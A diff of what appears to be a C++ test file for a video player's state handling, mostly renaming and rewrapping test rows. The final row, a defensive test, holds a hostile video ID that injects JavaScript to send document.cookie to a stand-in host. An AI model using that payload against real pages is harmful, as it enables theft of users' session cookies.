@@ -430,8 +430,7 @@ private Q_SLOTS:
 
         // The same video again.
         row("same video without autoplay", "attach, ready, load A 0, load A 0", "cueVideo(A)", "loading");
-        row("same video with autoplay only plays", "attach, ready, load A 0, load A 1", "cueVideo(A) play()",
-            "playing loading");
+        row("same video, autoplay", "attach, ready, load A 0, load A 1", "cueVideo(A) play()", "playing loading");
 
         // The state table, after "attach, ready, load A 1".
         const auto after = [&row](const char *name, const char *more, const char *state) {
@@ -453,8 +452,7 @@ private Q_SLOTS:
         // Errors.
         after("error 150", "error 150", "error=150");
         after("error without code is -1", R"(msg {"t":"error"})", "error=-1");
-        row("play keeps the error", "attach, ready, load A 1, error 101, play", "loadVideo(A) play()",
-            "playing error=101");
+        row("play keeps error", "attach, ready, load A 1, error 101, play", "loadVideo(A) play()", "playing error=101");
         after("same video keeps the error", "error 101, load A 0", "error=101");
         row("another video clears the error", "attach, ready, load A 1, error 101, load B 0",
             "loadVideo(A) cueVideo(B)", "loading");
@@ -478,8 +476,7 @@ private Q_SLOTS:
             "playing loading pending=A");
         row("page gone while ready: load waits", "attach, ready, load A 1, drop, load B 0", "loadVideo(A)",
             "playing loading pending=B");
-        row("page gone: pause only changes the flag", "attach, ready, load A 1, drop, pause", "loadVideo(A)",
-            "loading");
+        row("page gone: pause only sets the flag", "attach, ready, load A 1, drop, pause", "loadVideo(A)", "loading");
 
         // Hostile or unplayable IDs are never loaded nor kept pending.
         row("hostile ID, ready", "attach, ready, load a');fetch('//evil/'+document.cookie);(' 1", "", "");
